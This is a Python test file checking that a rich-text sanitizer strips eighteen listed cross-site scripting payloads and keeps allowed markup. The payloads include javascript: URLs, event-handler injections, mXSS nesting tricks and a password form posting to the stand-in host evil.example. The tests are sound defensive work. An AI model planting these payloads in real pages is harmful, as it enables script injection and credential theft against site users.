"""Rich text keeps a few marks; eighteen ways to hide a script in it come to nothing (G18)."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wudan.kit.markup import clean, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<p style='background:url(javascript:alert(1))' onclick='alert(1)'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href='https://evil.example/'>",
    "<p id=user class=admin><a name=csrf></a><!--[if IE]><script>alert(1)</script><![endif]-->x</p>",
    "<template><script>alert(1)</script></template><details open ontoggle=alert(1)><video><source onerror=alert(1)>",
]  # fmt: skip
ALLOWED = {
    "p": set(), "br": set(), "strong": set(), "em": set(), "ul": set(), "ol": set(), "li": set(),
    "h2": set(), "h3": set(), "h4": set(), "a": {"href", "rel"}, "blockquote": set(),
    "table": set(), "caption": set(), "thead": set(), "tbody": set(), "tr": set(),
    "th": {"scope", "colspan", "rowspan"}, "td": {"colspan", "rowspan"},
}  # fmt: skip


class Reader(HTMLParser):
    """What a browser would see."""

    def __init__(self):
        super().__init__()
        self.seen = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))


def seen_in(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.seen


def is_harmless(html):
    for tag, attributes in seen_in(html):
        assert tag in ALLOWED, (tag, html)
        assert set(attributes) <= ALLOWED[tag], (attributes, html)
        href = attributes.get("href") or ""
        assert not href or re.match(r"(?i)(https?|tel|mailto):", href), html
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("treat", [clean, render])
def test_nothing_that_runs_is_left(payload, treat):
    assert len(PAYLOADS) == 18
    assert is_harmless(treat(payload))
    assert is_harmless(treat(f"<p>村里通知</p>{payload}<p>完</p>"))
    assert is_harmless(treat(treat(payload)))


@given(st.text(st.sampled_from("<>/\"'=&;# \n-*1.asvgcriptonload:jhref"), max_size=80))
def test_no_mixture_of_signs_gets_through(text):
    assert is_harmless(clean(text))
    assert is_harmless(render(text))


def test_harmless_marks_stay():
    kept = '<h2>办法</h2><p>请<strong>带</strong>证件，<em>不收钱</em>。<a href="tel:12345">12345</a></p>'
    assert clean(kept).replace(' rel="noopener nofollow"', "") == kept
    assert 'rel="noopener nofollow"' in clean(kept)
    assert clean("<table><tr><td colspan=2>a</td></tr></table>").count("colspan") == 1


def test_a_packs_text_becomes_headings_lists_and_paragraphs():
    text = "# 隐私说明\n\n我们只存**三样**：\n姓名、电话、村。\n\n- 不卖\n- 不给别人\n\n1. 查\n2、删\n\n### 末了\n有事打 12345 & <问>"
    assert render(text) == (
        "<h2>隐私说明</h2>\n<p>我们只存<strong>三样</strong>：姓名、电话、村。</p>\n"
        "<ul><li>不卖</li><li>不给别人</li></ul>\n<ol><li>查</li><li>删</li></ol>\n"
        "<h4>末了</h4>\n<p>有事打 12345 &amp; &lt;问&gt;</p>"
    )
    assert render("") == ""
